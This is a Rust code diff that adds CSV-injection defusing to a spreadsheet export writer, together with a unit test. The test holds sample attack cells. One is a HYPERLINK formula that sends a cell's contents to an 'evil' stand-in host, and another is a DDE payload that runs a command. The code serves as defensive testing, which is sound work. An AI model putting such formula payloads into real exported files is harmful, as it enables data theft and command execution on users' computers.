@@ -89,12 +89,33 @@ pub fn write(doc: &Document, delimiter: u8) -> Vec<u8> {
     out
 }
 
+/// A cell a spreadsheet would run as a formula, made plain text: one that
+/// begins with `=`, `+`, `-`, `@`, a tab or a carriage return and is not a
+/// number gets a `'` in front (the OWASP advice on CSV injection). Numbers,
+/// negative ones too, with a decimal point or comma, stay numbers.
+pub fn defused(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell
+        .chars()
+        .next()
+        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
+    let number = cell
+        .replace(',', ".")
+        .parse::<f64>()
+        .is_ok_and(f64::is_finite);
+    if risky && !number {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
 /// One cell, quoted only where a spreadsheet needs it: when it holds the
 /// delimiter or a line break, or begins with a quote. A quote inside an
 /// unquoted cell is read as itself, so the regulation's TOML lines
 /// (`id = "rural"`) and names like `ТОС "Наш дом"` are written as they are,
 /// not with their quotes doubled.
 fn write_cell(out: &mut Vec<u8>, cell: &str, delimiter: u8) {
+    let cell = &*defused(cell);
     let needs_quotes = cell
         .bytes()
         .any(|b| b == delimiter || b == b'\n' || b == b'\r')
@@ -105,5 +126,31 @@ fn write_cell(out: &mut Vec<u8>, cell: &str, delimiter: u8) {
         out.push(b'"');
     } else {
         out.extend_from_slice(cell.as_bytes());
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_become_text_and_numbers_stay_numbers() {
+        for (cell, want) in [
+            (
+                "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+                "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+            ),
+            ("+7 914 000-00-00", "'+7 914 000-00-00"),
+            ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("-3.5", "-3.5"),
+            ("-3,5", "-3,5"),
+            ("+2", "+2"),
+            ("Иванова", "Иванова"),
+            ("", ""),
+        ] {
+            assert_eq!(defused(cell), want, "{cell}");
+        }
     }
 }
